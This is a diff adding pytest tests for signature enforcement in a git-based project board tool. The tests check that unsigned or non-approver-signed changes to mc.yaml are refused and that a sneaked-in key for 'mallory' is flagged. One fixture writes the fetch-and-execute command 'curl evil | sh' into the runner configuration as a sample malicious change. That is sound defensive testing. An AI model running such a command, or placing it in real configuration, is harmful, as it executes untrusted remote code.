@@ -914,3 +914,84 @@ def test_server_refuses_tags_and_checks_what_a_tag_would_have_hidden(
     err = server.push_refused("refs/tags/main", ref="refs/tags/main")
     assert "refs/tags/main: only branches may be pushed" in err
     assert git(server.bare, "--git-dir", str(server.bare), "tag").stdout == ""
+
+
+# ---------------------------------------------------------------------- issue 12.2 / 12.3
+
+
+def _runner_to(path: Path, command: str) -> None:
+    """Make the coder archetype run another command (mc.yaml, staged)."""
+    mc_yaml = path / "mc.yaml"
+    line = f"  coder: {{runner: command, command: [sh, -c, '{command}']}}"
+    text, n = re.subn(r"(?m)^  coder:.*$", line, mc_yaml.read_text())
+    assert n == 1
+    mc_yaml.write_text(text)
+    git(path, "add", "mc.yaml")
+
+
+def test_pre_commit_refuses_an_unsigned_mc_yaml_change_and_says_to_sign(
+    board_path: Path, keys: dict[str, Key]
+) -> None:
+    """Issue 12.2: the client hook knows whether the commit will be signed, and by whom."""
+    _runner_to(board_path, "curl evil | sh")
+    said = refused(board_path, "new runner", "--no-gpg-sign")
+    assert "mc.yaml: changes to mc.yaml must be signed by an existing approver" in said
+    assert "git commit -S" in said
+    # Signed, but by a key that is no approver's: refused too.
+    mallory = git(
+        board_path,
+        "-c",
+        f"user.signingkey={keys['mallory'].public}",
+        "commit",
+        "-q",
+        "-S",
+        "-m",
+        "new runner",
+        check=False,
+    )
+    assert mallory.returncode != 0 and "signed by an existing approver" in mallory.stderr
+    # commit.gpgsign (here through git -c, as a person's config would) counts as -S.
+    before = head(board_path)
+    proc = git(board_path, "-c", "commit.gpgsign=true", "commit", "-q", "-m", "new runner")
+    assert proc.returncode == 0, proc.stderr
+    assert git(board_path, "rev-parse", "HEAD^").stdout.strip() == before
+    assert run_mc(board_path, "verify").returncode == 0
+    # -S with the approver's key: accepted; an option's value that looks like -S is not -S.
+    _runner_to(board_path, "true")
+    assert "signed by an existing approver" in refused(board_path, "-S")
+    accepted(board_path, "another runner", "-S")
+    assert run_mc(board_path, "verify").returncode == 0
+
+
+def test_verify_judges_signatures_by_the_last_valid_signers(
+    board: Board, board_path: Path, keys: dict[str, Key]
+) -> None:
+    """Issue 12.3: an unsigned commit adds mallory's key, mallory signs an approval; both
+    commits are violations (the daemon refuses both; verify did not see the second)."""
+    to_review(board, "alpha")
+    signers = board_path / ".mc" / "allowed_signers"
+    key = keys["mallory"].public_text.split()
+    signers.write_text(signers.read_text() + f'mallory namespaces="git" {key[0]} {key[1]}\n')
+    git(board_path, "add", ".mc/allowed_signers")
+    added = sneak(board_path, "mallory approves now")
+    approval = hand_approval(
+        board_path,
+        "alpha",
+        reviewed=review_commit(board_path, "alpha"),
+        by="mallory",
+        sign_with=keys["mallory"],
+    )
+    proc = run_mc(board_path, "verify", "--json")
+    assert proc.returncode == 1
+    found = {(v["commit"], v["path"]) for v in json.loads(proc.stdout)}
+    assert (added, ".mc/allowed_signers") in found
+    assert (approval, "done/alpha.yaml") in found, found
+    # A later commit that changes nothing about signers does not make mallory's key good.
+    write(board_path / "notes.txt", "a note\n")
+    git(board_path, "add", "notes.txt")
+    sneak(board_path, "a note")
+    actions.new_project(board, "Beta", "coder", project_id="beta")
+    proc = run_mc(board_path, "verify", "--json")
+    assert (approval, "done/alpha.yaml") in {
+        (v["commit"], v["path"]) for v in json.loads(proc.stdout)
+    }
